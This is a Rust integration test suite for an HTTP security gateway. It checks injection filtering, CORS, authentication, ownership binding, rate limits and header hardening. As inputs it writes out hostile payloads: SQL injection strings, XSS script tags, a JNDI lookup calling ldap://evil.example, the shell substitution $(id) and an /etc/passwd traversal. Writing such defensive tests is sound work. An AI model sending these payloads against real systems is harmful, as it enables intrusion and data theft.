//! For every door: what it refuses never reaches the upstream, and the operator finds an event.

use std::os::unix::fs::PermissionsExt;

use jsonwebtoken::{EncodingKey, Header, encode};
use serde_json::json;

use crate::support::{Recorder, Running, status};

const SECRET: &str = "0123456789abcdef0123456789abcdef0123456789";

/// A refused request: door, policy, method, target, headers, body, status.
struct Case {
    door: &'static str,
    policy: &'static str,
    request: (&'static str, &'static str, &'static [(&'static str, &'static str)], &'static str),
    status: u16,
}

const JSON: (&str, &str) = ("Content-Type", "application/json");

fn cases() -> Vec<Case> {
    let case = |door, policy, request, status| Case { door, policy, request, status };
    vec![
        case("protocol", "", ("GET", "/a/../b", &[][..], ""), 400),
        case("protocol", "", ("GET", "/a%5cb", &[], ""), 400),
        case("protocol", "", ("TRACE", "/", &[], ""), 405),
        case("protocol", "", ("POST", "/", &[JSON], r#"{"a":1,"a":2}"#), 400),
        case("protocol", "", ("POST", "/", &[("Content-Encoding", "lzma")], "x"), 415),
        case("protocol", "[protocol]\nmax_body = '10 B'", ("POST", "/", &[], "more than ten bytes"), 413),
        case(
            "protocol",
            "[protocol]\nunderscore_headers = 'refuse'",
            ("GET", "/", &[("Content_Length", "5")], ""),
            400,
        ),
        case("network", "", ("GET", "/", &[("User-Agent", "")], ""), 403),
        case("network", "[network]\ndeny = ['127.0.0.0/8']", ("GET", "/", &[], ""), 403),
        case("network", "[network]\nallow = ['192.0.2.0/24']", ("GET", "/", &[], ""), 403),
        case(
            "cors",
            "",
            (
                "OPTIONS",
                "/",
                &[("Origin", "https://evil.example"), ("Access-Control-Request-Method", "POST")],
                "",
            ),
            403,
        ),
        case("cors", "", ("POST", "/", &[("Origin", "https://evil.example"), ("Cookie", "s=1")], "a=b"), 403),
        case("cors", "", ("POST", "/", &[("Sec-Fetch-Site", "cross-site"), ("Cookie", "s=1")], "a=b"), 403),
        case(
            "authentication",
            "[auth]\nrequire = 'required'\n[[auth.api_key]]\nsubject = 'a'\nsha256 = '0000000000000000000000000000000000000000000000000000000000000000'",
            ("GET", "/", &[], ""),
            401,
        ),
        case(
            "authentication",
            "[[auth.api_key]]\nsubject = 'a'\nsha256 = '0000000000000000000000000000000000000000000000000000000000000000'",
            ("GET", "/", &[("X-Api-Key", "guess")], ""),
            401,
        ),
        case(
            "schema",
            "[[route]]\npath = '/p'\nfields = ['name']\nunknown_properties = 'refuse'",
            ("POST", "/p", &[JSON], r#"{"name":"x","role":"admin"}"#),
            422,
        ),
        case("injection", "", ("GET", "/?q=%27%20OR%20%271%27=%271", &[], ""), 403),
        case("injection", "", ("GET", "/users/1%20OR%201=1", &[], ""), 403),
        case("injection", "", ("POST", "/", &[JSON], r#"{"a":[{"b":"<script>alert(1)</script>"}]}"#), 403),
        case(
            "injection",
            "",
            (
                "POST",
                "/",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                "a=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            ),
            403,
        ),
        case("injection", "", ("GET", "/", &[("X-Api-Version", "${jndi:ldap://evil.example/a}")], ""), 403),
    ]
}

#[test]
fn what_a_door_refuses_never_reaches_the_upstream() {
    let upstream = Recorder::plain();
    for Case { door, policy, request: (method, target, headers, body), status: expected } in cases() {
        let gate = Running::start(policy, &[upstream.url()]);
        let answer = gate.ask(method, target, headers, body.as_bytes());
        assert_eq!(status(&answer), expected, "{door} {method} {target}: {answer}");
        assert_eq!(upstream.take(), "", "{door} {method} {target} reached the upstream");
        assert!(
            gate.events.has(&[&format!("\"door\":\"{door}\""), "\"verdict\":\"refused\""]),
            "{door}: {:?}",
            gate.events.all()
        );
        assert!(
            answer.to_lowercase().contains("x-content-type-options: nosniff"),
            "a refusal carries the security headers: {answer}"
        );
        assert!(answer.contains("application/problem+json"), "{answer}");
    }
}

#[test]
fn an_observing_door_logs_and_changes_nothing() {
    let upstream = Recorder::plain();
    let observe = "[doors]\nprotocol='observe'\nnetwork='observe'\ncors='observe'\nschema='observe'\ninjection='observe'\n";
    for case in cases().into_iter().filter(|c| ["network", "injection", "schema"].contains(&c.door)) {
        let gate = Running::start(&format!("{observe}{}", case.policy), &[upstream.url()]);
        let (method, target, headers, body) = case.request;
        let answer = gate.ask(method, target, headers, body.as_bytes());
        assert_eq!(status(&answer), 200, "{method} {target}: {answer}");
        assert!(upstream.take().contains(body), "the body is as it was sent");
        assert!(gate.events.has(&["would-refuse"]), "{:?}", gate.events.all());
    }
}

#[test]
fn what_is_stripped_does_not_reach_the_upstream_and_the_rest_does() {
    let upstream = Recorder::plain();
    let gate = Running::start("[[route]]\npath = '/p'\nfields = ['name', 'bio']", &[upstream.url()]);
    let answer = gate.ask("POST", "/p", &[JSON], br#"{"name":"O'Brien","role":"admin","bio":"x"}"#);
    assert_eq!(status(&answer), 200);
    let seen = upstream.take();
    assert!(seen.ends_with(r#"{"name":"O'Brien","bio":"x"}"#) && !seen.contains("role"), "{seen}");
    assert!(gate.events.has(&["unknown-property", "/role"]));
}

#[test]
fn a_form_has_the_listed_fields_to_every_server() {
    let upstream = Recorder::plain();
    let gate = Running::start("[[route]]\npath = '/p'\nfields = ['name', 'bio']", &[upstream.url()]);
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    for (body, arrives) in [
        ("name=x&role=1", "name=x"),
        ("name=x&role%00=1", "name=x"),
        ("name=x&role%00x=1&role%00[a]=1", "name=x"),
        ("name=x&[role]=1", "name=x"),
        ("name=x;role=1", "name=x%3Brole%3D1"),
        ("name=x;role=1&role=2", "name=x%3Brole%3D1"),
        ("name=x&bio=a%3Bb", "name=x&bio=a%3Bb"),
        ("name=x&bio[a]=y", "name=x&bio[a]=y"),
    ] {
        assert_eq!(status(&gate.ask("POST", "/p", &[form], body.as_bytes())), 200, "{body}");
        let seen = upstream.take();
        assert!(seen.ends_with(&format!("\r\n\r\n{arrives}")), "{body}: {seen}");
    }
    assert!(gate.events.has(&["\"semicolon\"", "rewritten"]));
}

#[test]
fn limits_hold_exactly_and_cannot_be_reset_by_headers() {
    let upstream = Recorder::plain();
    let gate = Running::start("[rate]\nlimits = ['5 per hour']", &[upstream.url()]);
    for i in 0..8 {
        let address = format!("198.51.100.{i}");
        let answer = gate.ask(
            "GET",
            "/",
            &[("X-Forwarded-For", &address), ("Forwarded", &format!("for={address}"))],
            b"",
        );
        assert_eq!(status(&answer), if i < 5 { 200 } else { 429 }, "{i}: {answer}");
        if i >= 5 {
            assert!(answer.to_lowercase().contains("retry-after: "), "{answer}");
        }
    }
    assert_eq!(upstream.take().matches("GET /").count(), 5);
}

#[test]
fn only_failed_logins_count() {
    let fine = Recorder::start("HTTP/1.1 200 OK\r\nSet-Cookie: session=abc\r\nContent-Length: 0\r\n\r\n");
    let gate = Running::start("", &[fine.url()]);
    for _ in 0..20 {
        assert_eq!(status(&gate.ask("POST", "/api/login", &[JSON], b"{}")), 200);
    }
    let wrong = Recorder::start("HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n");
    let gate = Running::start("", &[wrong.url()]);
    let answers: Vec<u16> = (0..7).map(|_| status(&gate.ask("POST", "/api/login", &[JSON], b"{}"))).collect();
    assert_eq!(answers, [401, 401, 401, 401, 401, 429, 429]);
    assert_eq!(wrong.take().matches("POST /").count(), 5);
}

/// A directory with a secret, and a token for a subject.
fn issuer() -> (tempfile::TempDir, impl Fn(&str) -> String) {
    let directory = tempfile::tempdir().unwrap();
    let secret = directory.path().join("secret");
    std::fs::write(&secret, SECRET).unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let token = |subject: &str| {
        let claims = json!({ "sub": subject, "exp": 4_000_000_000u64, "iat": 1_700_000_000u64 });
        let token =
            encode(&Header::default(), &claims, &EncodingKey::from_secret(SECRET.as_bytes())).unwrap();
        format!("Bearer {token}")
    };
    (directory, token)
}

const ISSUER: &str = "[[auth.issuer]]\n[[auth.issuer.key]]\nalgorithm = 'HS256'\nsecret_file = 'secret'\n";

fn owned(directory: &tempfile::TempDir, routes: &str, upstream: &Recorder) -> Running {
    let file = directory.path().join("doorward.toml");
    std::fs::write(&file, format!("{ISSUER}{routes}")).unwrap();
    Running::from_file(&file, &[upstream.url()])
}

#[test]
fn a_bound_id_of_somebody_else_never_reaches_the_upstream() {
    let (directory, token) = issuer();
    let upstream = Recorder::plain();
    let gate = owned(&directory, "[[route]]\npath = '/users/{id}'\nbind = { 'path.id' = 'sub' }", &upstream);
    assert_eq!(status(&gate.ask("GET", "/users/7", &[("Authorization", &token("7"))], b"")), 200);
    assert!(upstream.take().contains("x-doorward-subject: 7"));
    for (target, subject, expected) in
        [("/users/8", Some("7"), 404), ("/users/7", None, 401), ("/users/07", Some("7"), 404)]
    {
        let header = subject.map(&token).unwrap_or_default();
        let forged = [("Authorization", header.as_str()), ("X-Doorward-Subject", "8")];
        assert_eq!(status(&gate.ask("GET", target, &forged, b"")), expected, "{target}");
        assert_eq!(upstream.take(), "");
    }
    assert!(gate.events.has(&["\"door\":\"ownership\"", "\"rule\":\"bind\"", "\"principal\":\"7\""]));
}

#[test]
fn no_byte_of_a_foreign_object_leaves() {
    let (directory, token) = issuer();
    let one = Recorder::start(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 30\r\nETag: \"1\"\r\n\r\n{\"user_id\":8,\"note\":\"marker1\"}",
    );
    let list = Recorder::start(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1d\r\n[{\"user_id\":7},{\"user_id\":8,\"\r\n12\r\nnote\":\"marker1\"}] \r\n0\r\n\r\n",
    );
    let routes = "[[route]]\npath = '/orders/**'\nowner = { field = '/user_id' }";
    for (upstream, expected, kept) in [(&one, 404, ""), (&list, 200, "[{\"user_id\":7}]")] {
        let gate = owned(&directory, routes, upstream);
        let headers = [
            ("Authorization", token("7")),
            ("Range", "bytes=0-10".into()),
            ("Accept-Encoding", "gzip".into()),
        ];
        let headers: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let answer = gate.ask("GET", "/orders/1", &headers, b"");
        assert_eq!(status(&answer), expected, "{answer}");
        assert!(!answer.contains("marker1") && answer.contains(kept), "{answer}");
        let sent = upstream.take().to_lowercase();
        assert!(!sent.contains("range:") && sent.contains("accept-encoding: identity"), "{sent}");
        assert_eq!(
            status(&gate.ask("HEAD", "/orders/1", &headers, b"")),
            expected,
            "a HEAD tells no more than a GET"
        );
    }
}

#[test]
fn an_object_does_not_leave_by_an_error_or_a_redirect() {
    let (directory, token) = issuer();
    let answer = |head: &str, body: &str| {
        format!(
            "HTTP/1.1 {head}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let foreign = "{\"user_id\":8,\"note\":\"marker1\"}";
    let current = "{\"error\":\"conflict\",\"current\":{\"user_id\":8,\"note\":\"marker1\"}}";
    for (upstream, expected) in [
        (answer("409 Conflict", foreign), 404),
        (answer("409 Conflict", current), 404),
        (answer("422 Unprocessable Content", &format!("[{foreign}]")), 404),
        // The text of a server error does not leave anyway.
        (answer("500 Internal Server Error", foreign), 500),
        (answer("403 Forbidden", "{\"user_id\":8,\"user_id\":7}"), 404),
        (answer("409 Conflict", "{\"error\":{\"current\":{\"user_id\":8,\"note\":\"marker1\"}}}"), 404),
        (answer("409 Conflict", foreign).replace("application/json", "text/html"), 404),
        (answer("302 Found\r\nLocation: /orders/../x/marker1", ""), 404),
        (answer("404 Not Found", "<h1>nothing here</h1>").replace("application/json", "text/html"), 404),
        (answer("302 Found\r\nLocation: https://files.example/marker1?signature=x", ""), 404),
        (answer("302 Found\r\nLocation: /export/marker1", ""), 404),
        (answer("301 Moved Permanently\r\nLocation: //evil.example/orders/1", foreign), 404),
        (answer("409 Conflict", "{\"user_id\":7,\"note\":\"mine\"}"), 409),
        (answer("404 Not Found", "{\"error\":\"no such order\"}"), 404),
        (answer("400 Bad Request", "{\"error\":{\"code\":3},\"hints\":[\"a\"]}"), 400),
        (answer("301 Moved Permanently\r\nLocation: /orders/1/", ""), 301),
        (answer("304 Not Modified", ""), 304),
    ] {
        let recorder = Recorder::start(upstream.clone().leak());
        let gate =
            owned(&directory, "[[route]]\npath = '/orders/**'\nowner = { field = '/user_id' }", &recorder);
        let bearer = token("7");
        let answer = gate.ask("GET", "/orders/1", &[("Authorization", bearer.as_str())], b"");
        assert_eq!(status(&answer), expected, "{upstream}: {answer}");
        assert!(!answer.contains("marker1"), "{answer}");
    }
}

#[test]
fn every_answer_carries_the_guides_headers_and_hardened_cookies() {
    let upstream = Recorder::start(
        "HTTP/1.1 200 OK\r\nServer: nginx/1.2\r\nX-Powered-By: PHP/5\r\nSet-Cookie: s=1; Path=/\r\nX-Frame-Options: ALLOWALL\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n",
    );
    let gate =
        Running::start("[cors]\norigins = ['https://app.example']\ncredentials = true", &[upstream.url()]);
    let answer = gate.ask("GET", "/", &[("Origin", "https://app.example")], b"");
    for line in [
        "x-content-type-options: nosniff",
        "x-frame-options: DENY",
        "x-xss-protection: 0",
        "referrer-policy: strict-origin-when-cross-origin",
        "content-security-policy: default-src 'self'",
        "permissions-policy: camera=(), microphone=(), geolocation=()",
        "set-cookie: s=1; Path=/; HttpOnly; SameSite=Lax",
        "access-control-allow-origin: https://app.example",
        "access-control-allow-credentials: true",
        "vary: Origin",
    ] {
        assert!(answer.contains(line), "{line} is missing: {answer}");
    }
    for line in ["server:", "x-powered-by", "access-control-allow-origin: *", "strict-transport-security"] {
        assert!(!answer.contains(line), "{line} is there: {answer}");
    }
    let foreign = gate.ask("GET", "/", &[("Origin", "https://app.example.evil.example")], b"");
    assert!(!foreign.contains("access-control-allow") && foreign.contains("vary: Origin"), "{foreign}");
}

#[test]
fn compressed_bodies_are_judged_by_what_they_say() {
    use std::io::Write;
    let gzip = |text: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(text).unwrap();
        encoder.finish().unwrap()
    };
    let upstream = Recorder::plain();
    let gate = Running::start("", &[upstream.url()]);
    let headers = [JSON, ("Content-Encoding", "gzip")];
    assert_eq!(status(&gate.ask("POST", "/", &headers, &gzip(b"{\"a\":\"fine\"}"))), 200);
    upstream.take();
    assert_eq!(status(&gate.ask("POST", "/", &headers, &gzip(b"{\"a\":\"' OR '1'='1\"}"))), 403);
    assert_eq!(status(&gate.ask("POST", "/", &headers, &gzip(&vec![b' '; 20_000_000]))), 415, "a bomb");
    assert_eq!(upstream.take(), "");
}

#[test]
fn remote_keys_are_fetched_and_verify_tokens() {
    use base64::Engine;
    let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ED25519).unwrap();
    let x = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(key.public_key_raw());
    let set = json!({ "keys": [{ "kty": "OKP", "crv": "Ed25519", "kid": "k1", "x": x }] }).to_string();
    let answer = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{set}",
        set.len()
    );
    let issuer = Recorder::start(answer.leak());
    let upstream = Recorder::plain();
    let policy = format!(
        "[auth]\nrequire = 'required'\n[[auth.issuer]]\nissuer = 'me'\njwks = '{}/jwks'",
        issuer.url()
    );
    let gate = Running::start(&policy, &[upstream.url()]);
    let claims = json!({ "iss": "me", "sub": "7", "exp": 4_000_000_000u64 });
    let token = |kid: &str| {
        let mut header = Header::new(jsonwebtoken::Algorithm::EdDSA);
        header.kid = Some(kid.into());
        let signing = EncodingKey::from_ed_pem(key.serialize_pem().as_bytes()).unwrap();
        format!("Bearer {}", encode(&header, &claims, &signing).unwrap())
    };
    assert_eq!(status(&gate.ask("GET", "/", &[("Authorization", &token("k1"))], b"")), 200);
    assert_eq!(status(&gate.ask("GET", "/", &[("Authorization", &token("unknown"))], b"")), 401);
    assert!(issuer.take().contains("GET /jwks HTTP/1.1"));
}

#[test]
fn markup_is_taken_away_where_the_policy_says_so_and_prose_may_speak_of_sql() {
    let upstream = Recorder::plain();
    let policy = "[injection]\nprose = ['comment']\n[[route]]\npath = '/posts'\nsanitize = { title = 'strip', text = 'basic' }";
    let gate = Running::start(policy, &[upstream.url()]);
    let json = [("Content-Type", "application/json")];
    for (body, seen) in [
        (r#"{"title":"<b>Tom</b> & <script>alert(1)</script>Jerry"}"#, r#"{"title":"Tom & Jerry"}"#),
        (r#"{"title":"Tom & Jerry <3"}"#, r#"{"title":"Tom & Jerry <3"}"#),
        (r#"{"text":"<p onclick='x()'>hi</p>","n":1}"#, r#"{"text":"<p>hi</p>","n":1}"#),
        (r#"{"comment":"try ' OR '1'='1 in the search"}"#, "OR '1'='1"),
    ] {
        assert_eq!(status(&gate.ask("POST", "/posts", &json, body.as_bytes())), 200, "{body}");
        let sent = upstream.take();
        assert!(sent.contains(seen), "{body} became {sent}");
    }
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    assert_eq!(status(&gate.ask("POST", "/posts?title=%3Cb%3Ea", &form, b"title=%3Ci%3Eb&x=1")), 200);
    let sent = upstream.take();
    assert!(sent.contains("POST /posts?title=a ") && sent.contains("title=b&x=1"), "{sent}");
    for body in [
        r#"{"comment":"<script>alert(1)</script>"}"#,
        r#"{"other":"<script>alert(1)</script>"}"#,
        r#"{"title":"' OR '1'='1"}"#,
    ] {
        assert_eq!(status(&gate.ask("POST", "/posts", &json, body.as_bytes())), 403, "{body}");
        assert_eq!(upstream.take(), "");
    }
    assert!(gate.events.has(&["\"rule\":\"markup\"", "rewritten", "title"]));
}

#[test]
fn the_policy_sets_the_min_confidence_of_a_detector() {
    let upstream = Recorder::plain();
    let policy = "[injection]\ndetectors = { shell = 'observe', path = 'medium' }\n[[route]]\npath = '/files'\ndetectors = { path = 'off' }";
    let gate = Running::start(policy, &[upstream.url()]);
    for (target, expected) in [
        ("/?x=$(id)", 200),
        ("/?x=../up.txt", 403),
        ("/?x=%27%20or%201=1--%20", 403),
        ("/files?x=../../etc/passwd", 200),
        ("/files?x=$(id)", 200),
        ("/files?x=%27%20or%201=1--%20", 403),
    ] {
        assert_eq!(status(&gate.ask("GET", target, &[], b"")), expected, "{target}");
    }
    assert!(gate.events.has(&["\"rule\":\"shell\"", "$(id)"]));
    assert!(gate.events.has(&["\"rule\":\"path\"", "../up.txt"]));
}
